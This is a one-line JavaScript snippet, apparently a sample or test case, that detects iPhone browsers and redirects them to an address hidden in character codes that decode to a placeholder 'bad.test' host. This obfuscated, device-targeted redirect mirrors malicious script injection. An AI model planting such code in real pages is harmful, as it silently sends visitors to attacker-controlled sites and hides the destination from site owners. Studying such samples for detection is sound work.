var u = navigator.userAgent; if (u.indexOf('iPhone') > -1) { document.location.href = String.fromCharCode(104, 116, 116, 112, 58, 47, 47, 98, 97, 100, 46, 116, 101, 115, 116, 47); }
